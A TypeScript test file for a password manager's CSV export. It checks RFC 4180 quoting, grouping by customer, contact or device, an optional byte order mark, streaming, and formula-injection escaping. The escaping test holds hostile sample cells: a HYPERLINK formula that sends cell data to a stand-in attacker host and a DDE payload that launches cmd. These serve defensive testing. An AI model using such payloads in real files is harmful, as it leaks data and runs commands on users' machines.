import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, writeCsvExport } from "@/server/export/csv";
import type { ExportEntry } from "@/server/export/entry";
import { collectText, generatedEntries, SAMPLE_ENTRIES } from "../support/export-entries";

/** Parses the export back with Papa Parse's RFC 4180 reader. */
function parseCsv(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data;
  // The file ends with CRLF, which the reader sees as one last empty row.
  expect(rows.at(-1)).toEqual([""]);
  return rows.slice(0, -1);
}

/** What a spreadsheet-safe cell holds for a value: a leading quote when it starts like a formula. */
const safeCell = (value: string) => (/^[=+\-@\t\r\0]/.test(value) ? `'${value}` : value);

function expectedRow(entry: ExportEntry): string[] {
  return [
    entry.customer,
    entry.contact !== null ? "Contact" : entry.device !== null ? "Device" : "Customer",
    entry.contact ?? entry.device ?? "",
    entry.title,
    entry.username ?? "",
    entry.password ?? "",
    entry.urls.join("\n"),
    entry.notes ?? "",
    entry.totp ?? "",
    entry.tags.join("\n"),
    entry.customFields.map((field) => `${field.name}: ${field.value}`).join("\n"),
  ].map(safeCell);
}

describe("the CSV export", () => {
  it("writes a header and one row per password with every field, read back unchanged by an RFC 4180 parser", async () => {
    const rows = parseCsv(await collectText(writeCsvExport(SAMPLE_ENTRIES)));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1)).toEqual(SAMPLE_ENTRIES.map(expectedRow));
  });

  it("files each row under its customer, contact or device", async () => {
    const rows = parseCsv(await collectText(writeCsvExport(SAMPLE_ENTRIES))).slice(1);
    expect(rows.map((row) => row.slice(0, 3))).toEqual([
      ["Acme Dental", "Device", "FW-01 (Fortigate)"],
      ["Acme Dental", "Contact", "Dr. Zoë Ångström"],
      ["Bäckerei Müller GmbH", "Customer", ""],
      ["Bäckerei Müller GmbH", "Device", "PRINTER-2"],
      ["Contoso, Ltd.", "Customer", ""],
    ]);
  });

  it("escapes every cell that starts like a formula with a quote, and quotes the cell", async () => {
    const text = await collectText(writeCsvExport(SAMPLE_ENTRIES));
    // The raw text, as a spreadsheet sees it: each dangerous cell starts with "' inside its quotes.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(`"'+zoe@acme-dental.example"`);
    expect(text).toContain(`"'-5+3"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(text).toContain(`"'=formula name: \tleading tab"`);
    expect(text).toContain(`"'\rcarriage"`);
    expect(text).toContain(`"'@home"`);
    // A formula followed by a line break is caught too (Papa Parse's built-in pattern misses this one).
    expect(text).toContain(`"'=1+2\nsecond line"`);
    // No cell anywhere starts with a formula character unescaped.
    const cells = parseCsv(text).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r\0]/.test(cell))).toEqual([]);
    // A formula character later in a value is left alone.
    expect(cells).toContain("Tr0ub4dor&3,\"quoted\"");
  });

  it("follows RFC 4180: CRLF between records, quotes doubled, cells with separators or line breaks quoted", async () => {
    const entry = { ...SAMPLE_ENTRIES[0]!, notes: "Line one\nLine two" };
    const text = await collectText(writeCsvExport([entry]));
    expect(text.startsWith("Customer,Filed under,Contact or device,Description,")).toBe(true);
    expect(text.split("\r\n")).toHaveLength(3); // header, row, and nothing after the final CRLF
    expect(text).toContain(`"Line one\nLine two"`); // a line break inside a value stays as it was, quoted
    expect(text).toContain(`"Tr0ub4dor&3,""quoted"""`);
    expect(text).toContain(`"https://10.0.0.1:8443/login\nhttps://fw.acme-dental.example/"`);
    expect(text).toContain(`,FW-01 (Fortigate),`); // nothing to quote, so not quoted
  });

  it("starts with a UTF-8 byte order mark only when asked", async () => {
    const plain = await collectText(writeCsvExport(SAMPLE_ENTRIES));
    const withMark = await collectText(writeCsvExport(SAMPLE_ENTRIES, { byteOrderMark: true }));
    expect(plain.startsWith("Customer")).toBe(true);
    expect(withMark).toBe(`\uFEFF${plain}`);
    expect(Buffer.from(withMark, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it("streams from an async source in pieces and writes a header alone for no passwords", async () => {
    async function* source() {
      yield* generatedEntries(1_234);
    }
    const pieces: string[] = [];
    for await (const piece of writeCsvExport(source())) pieces.push(piece);
    expect(pieces).toHaveLength(1 + 3); // the header, then batches of 500, 500 and 234 rows
    const rows = parseCsv(pieces.join(""));
    expect(rows).toHaveLength(1 + 1_234);
    expect(rows[1_234]![3]).toBe("Service account 1233 for the line-of-business application");

    expect(await collectText(writeCsvExport([]))).toBe(`${CSV_COLUMNS.join(",")}\r\n`);
  });
});
